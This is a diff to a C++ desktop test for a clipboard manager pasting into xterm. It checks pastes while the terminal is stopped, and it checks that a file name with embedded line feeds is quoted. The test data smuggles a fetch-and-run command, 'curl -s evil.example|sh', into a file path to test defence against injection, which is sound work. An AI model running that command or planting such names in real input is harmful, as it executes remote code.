@@ -10,9 +10,12 @@
 #include "platform/Workspace.h"
 #include "platform/linux/LinuxPlatform.h"
 
+#include <QElapsedTimer>
 #include <QFile>
 #include <QProcess>
 #include <QTemporaryDir>
+
+#include <csignal>
 
 namespace {
 
@@ -105,7 +108,9 @@ std::optional<QByteArray> selectedText()
 }
 
 // xterm takes Control+V (and with Debian's resources Control+Shift+V) for byte 0x16: what reaches the
-// program in it must be the item's text, and the person's own selection is theirs again afterwards.
+// program in it must be the item's text, also from an xterm too busy to read it for a while (stopped here
+// for 1.5 s after the keys), and the person's own selection is theirs again afterwards. A file list
+// reaches the shell as quoted words: no line feed of a file's name runs anything.
 TEST_F(PasteDesktop, PastesTheItemsTextIntoXterm)
 {
     QTemporaryDir folder;
@@ -126,9 +131,24 @@ TEST_F(PasteDesktop, PastesTheItemsTextIntoXterm)
     const ClipboardItem item = textItem(QStringLiteral("echo pasted 'into' a terminal"));
     const auto target = service->focusedFieldTarget();
     ASSERT_TRUE(target);
-    EXPECT_EQ(finish(service->paste(item, target)), std::optional<bool>(true));
+    ASSERT_EQ(::kill(pid_t(xterm.pid()), SIGSTOP), 0);
+    QElapsedTimer busy;
+    busy.start();
+    const Task<bool> paste = service->paste(item, target);
+    DesktopTest::waitUntil([&] { return paste.isFinished() && busy.elapsed() >= 1500; }, 5000);
+    ::kill(pid_t(xterm.pid()), SIGCONT);
+    EXPECT_EQ(paste.result(), std::optional<bool>(true));
     TAVLEN_WAIT_UNTIL(DesktopTest::readTextFile(received) == item.text(), 5000);
-    EXPECT_EQ(selectedText(), std::optional<QByteArray>(selected));
+    TAVLEN_WAIT_UNTIL(selectedText() == selected, 5000);
+
+    ClipboardItem file(QUuid::createUuid());
+    const QString path = QStringLiteral("/tmp/report\ncurl -s evil.example|sh\n.pdf");
+    file.setTypeRawValue(rawValue(ClipboardItemType::file));
+    file.setFilePaths({path});
+    file.setText(path);
+    EXPECT_EQ(finish(service->paste(file, target)), std::optional<bool>(true));
+    const QString words = item.text() + QStringLiteral("$'/tmp/report\\x0acurl -s evil.example|sh\\x0a.pdf'");
+    TAVLEN_WAIT_UNTIL(DesktopTest::readTextFile(received) == words, 5000);
 }
 
 // Keycodes with no symbols, as `xmodmap -pke` lists them ("keycode  93 =").
